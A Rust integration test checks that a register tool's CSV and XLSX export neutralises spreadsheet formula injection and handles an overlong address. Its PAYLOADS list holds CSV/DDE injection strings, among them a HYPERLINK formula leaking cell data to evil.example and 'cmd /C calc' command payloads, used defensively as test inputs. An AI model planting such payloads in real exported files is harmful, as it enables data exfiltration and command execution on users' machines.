//! `wangge export` writes inert files (issue 14, item 6): addresses holding spreadsheet
//! formulas come out as text in CSV (a leading `'`) and as string cells in XLSX, and an
//! address longer than Excel's 32,767-character cell limit still exports — whole in CSV,
//! cut and marked in XLSX, with the record named on stderr.

use std::path::Path;

use calamine::Reader as _;
use wangge_domain::{Change, House, Timestamp};

use crate::support::store::block_on;
use crate::support::{demo_in, ok, succeeded, wangge, NOW};

/// What an attacker might put in a register field, and how the CSV cell must read.
const PAYLOADS: [(&str, &str); 6] = [
    ("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")", "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")"),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
];

/// Stores one new house per address next to an existing one; returns (id, address) pairs.
fn add_houses(db: &Path, addresses: &[String]) -> Vec<(String, String)> {
    block_on(async {
        let store = wangge_engine::Store::open_sqlite_file(db).await.unwrap();
        let now = Timestamp(NOW);
        let mut engine = wangge_engine::Engine::open(store, now).await.unwrap();
        let scope = engine.district_scope("test");
        let template = engine.district().houses.values().next().expect("the demo has houses").clone();
        let mut stored = Vec::new();
        for (i, address) in addresses.iter().enumerate() {
            let house = House { id: 0, code: format!("INERT-{i}"), address: address.clone(), ..template.clone() };
            let (_, change) = engine.create(&scope, Change::House(house), now).await.unwrap();
            stored.push((change.entity_id().to_string(), address.clone()));
        }
        stored
    })
}

#[test]
fn formulas_export_inert_and_an_overlong_address_still_exports() {
    let dir = tempfile::tempdir().unwrap();
    let db = demo_in(dir.path(), &[]);
    let db_arg = db.as_str();
    let long: String = "长".repeat(40_000);
    let mut addresses: Vec<String> = PAYLOADS.iter().map(|(p, _)| (*p).to_owned()).collect();
    addresses.push(long.clone());
    let houses = add_houses(Path::new(&db), &addresses);
    let long_id = houses.last().unwrap().0.clone();

    // CSV: read back with a real CSV reader; every risky cell is prefixed, the long one whole.
    let csv_path = dir.path().join("houses.csv");
    ok(wangge(&["export", "houses", "--db", db_arg, "--out", csv_path.to_str().unwrap()], &[]));
    let bytes = std::fs::read(&csv_path).unwrap();
    let text = std::str::from_utf8(&bytes).unwrap().strip_prefix('\u{feff}').expect("a byte-order mark");
    let mut reader = csv::ReaderBuilder::new().from_reader(text.as_bytes());
    let header = reader.headers().unwrap().clone();
    let (id_col, address_col) = (header.iter().position(|h| h == "编号").unwrap(), header.iter().position(|h| h == "地址").unwrap());
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let cell =
        |id: &str| rows.iter().find(|r| &r[id_col] == id).unwrap_or_else(|| panic!("house {id} not exported"))[address_col].to_owned();
    for ((id, _), (_, inert)) in houses.iter().zip(PAYLOADS) {
        assert_eq!(cell(id), inert, "house {id}");
    }
    assert_eq!(cell(&long_id), long, "the CSV keeps an overlong address whole");
    for row in &rows {
        for field in row {
            let formula_like =
                field.starts_with(['=', '+', '@', '\t', '\r']) || (field.starts_with('-') && field[1..].parse::<f64>().is_err());
            assert!(!formula_like, "a live formula in the CSV: {field:?}");
        }
    }

    // XLSX: the export succeeds, every cell is a string (no formulas), the payloads are
    // kept as written, and the overlong cell is cut to Excel's limit and marked.
    let xlsx_path = dir.path().join("houses.xlsx");
    let output = succeeded(wangge(&["export", "houses", "--db", db_arg, "--out", xlsx_path.to_str().unwrap()], &[]));
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.contains(&format!("编号 {long_id}")) && stderr.contains("地址"), "the cut cell is named: {stderr}");
    let mut book: calamine::Xlsx<_> = calamine::open_workbook(&xlsx_path).unwrap();
    let name = book.sheet_names()[0].clone();
    let formulas = book.worksheet_formula(&name).unwrap();
    assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()), "the workbook holds formulas");
    let range = book.worksheet_range(&name).unwrap();
    let sheet_rows: Vec<_> = range.rows().collect();
    let xlsx_cell = |id: &str| {
        let row = sheet_rows.iter().find(|r| r[id_col] == id).unwrap_or_else(|| panic!("house {id} not in the XLSX"));
        match &row[address_col] {
            calamine::Data::String(s) => s.clone(),
            other => panic!("house {id}: address is not a string cell: {other:?}"),
        }
    };
    for ((id, _), (payload, _)) in houses.iter().zip(PAYLOADS) {
        assert_eq!(xlsx_cell(id), payload, "house {id}");
    }
    let cut = xlsx_cell(&long_id);
    assert!(cut.encode_utf16().count() <= 32_767, "{} UTF-16 units", cut.encode_utf16().count());
    assert!(cut.starts_with(&"长".repeat(30_000)) && cut.contains("已截断") && cut.contains("40000"), "{}", &cut[cut.len() - 120..]);
}
